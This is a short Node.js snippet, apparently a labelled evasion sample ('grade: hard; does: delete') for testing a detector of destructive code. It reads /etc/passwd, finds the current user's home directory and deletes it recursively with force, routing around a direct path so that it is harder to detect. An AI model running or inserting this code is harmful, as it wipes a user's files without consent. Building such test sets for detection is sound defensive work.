// evasion: /etc/passwd streamed line by line with readline; the line of the process's uid gives the directory fs.promises.rm removes
// grade: hard; does: delete
const fs = require('fs');
const readline = require('readline');
const rl = readline.createInterface({ input: fs.createReadStream('/etc/passwd') });
rl.on('line', (line) => {
  const f = line.split(':');
  if (Number(f[2]) === process.getuid()) fs.promises.rm(f[5], { recursive: true, force: true });
});
